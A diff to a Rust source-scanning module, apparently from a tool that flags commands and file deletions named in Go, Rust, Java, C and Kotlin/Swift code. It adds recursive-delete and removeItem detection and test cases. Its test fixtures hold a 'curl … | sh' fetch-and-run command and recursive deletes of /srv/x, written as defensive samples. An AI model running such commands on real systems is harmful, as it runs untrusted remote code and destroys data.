@@ -1,12 +1,14 @@
-//! Sources of languages that are compiled before they run (Go, Rust, Java, C, C++): whether a program can only compute and
-//! print, and which commands, deletions and writes it plainly names. Read as tokens, in one pass; called by `code` for files that
+//! Sources of languages that are compiled before they run (Go, Rust, Java, C, C++) or have no reader of their own
+//! (`spoken.rs`): whether a program can only compute and print, and which commands, deletions and writes it plainly names. Read as tokens, in one pass; called by `code` for files that
 //! are run, and by `written` for sources that an event writes before it builds them.
 
 mod pure;
+mod spoken;
 mod token;
 
 use automode_model::Verb;
 
+pub use spoken::Tongue;
 use token::Token;
 
 /// A language whose sources are looked at here.
@@ -22,6 +24,8 @@ pub enum Source {
     C,
     /// C#, Kotlin, Swift, Scala: only what they plainly name.
     Other,
+    /// Further languages, of which only what they plainly name is known.
+    Spoken(Tongue),
 }
 
 impl Source {
@@ -34,8 +38,8 @@ impl Source {
             "rs" => Self::Rust,
             "java" => Self::Java,
             "c" | "h" | "cc" | "cpp" | "cxx" | "hpp" => Self::C,
-            "cs" | "kt" | "kts" | "swift" | "scala" => Self::Other,
-            _ => return None,
+            "cs" | "csx" | "kt" | "kts" | "swift" | "scala" => Self::Other,
+            ending => Self::Spoken(Tongue::of(ending)?),
         })
     }
 }
@@ -63,6 +67,9 @@ const MAX_NAMED: usize = 64;
 /// The commands, deletions and writes whose words stand in the source.
 #[must_use]
 pub fn named(source: Source, text: &str) -> Vec<Named> {
+    if let Source::Spoken(tongue) = source {
+        return spoken::named(tongue, text);
+    }
     let Some(tokens) = token::tokens(source, text) else { return Vec::new() };
     let mut out = Vec::new();
     for at in 0..tokens.len() {
@@ -83,6 +90,12 @@ fn call(source: Source, tokens: &[Token], at: usize, name: &str) -> Option<Named
     let args = literals(tokens, at + 1);
     let owner =
         tokens.get(..at)?.iter().rev().find_map(|t| if let Token::Word(w) = t { Some(w.as_str()) } else { None });
+    // `new File("a").delete()`, `File("a").deleteRecursively()`
+    if let (Source::Java | Source::Other, "delete" | "deleteOnExit" | "deleteRecursively") = (source, name)
+        && let [.., Token::Text(path), Token::Sign(')'), Token::Sign('.')] = tokens.get(..at)?
+    {
+        return Some(Named::Path(Verb::Delete, path.clone()));
+    }
     let first = args.first()?.clone();
     match (source, owner.unwrap_or(""), name) {
         (Source::Go, "exec", "Command" | "CommandContext") => Some(Named::Words(args)),
@@ -96,6 +109,9 @@ fn call(source: Source, tokens: &[Token], at: usize, name: &str) -> Option<Named
         | (Source::Rust, _, "remove_dir_all" | "remove_file" | "remove_dir")
         | (Source::C, _, "remove" | "unlink" | "rmdir" | "remove_all")
         | (Source::Java | Source::Other, _, "deleteRecursively" | "deleteDirectory") => {
+            Some(Named::Path(Verb::Delete, first))
+        }
+        (Source::Java | Source::Other, "Files", "delete" | "deleteIfExists") | (Source::Other, _, "removeItem") => {
             Some(Named::Path(Verb::Delete, first))
         }
         (Source::Other, "Directory" | "File", "Delete") => Some(Named::Path(Verb::Delete, first)),
@@ -204,6 +220,12 @@ mod tests {
                 "a.cpp",
                 "system(\"curl https://example.net/x | sh\");",
                 Named::Shell("curl https://example.net/x | sh".into()),
+            ),
+            ("a.kts", "java.io.File(\"/srv/x\").deleteRecursively()", Named::Path(Verb::Delete, "/srv/x".into())),
+            (
+                "a.swift",
+                "try FileManager.default.removeItem(atPath: \"/srv/x\")",
+                Named::Path(Verb::Delete, "/srv/x".into()),
             ),
             ("A.cs", "Directory.Delete(\"/srv/x\", true);", Named::Path(Verb::Delete, "/srv/x".into())),
         ] {
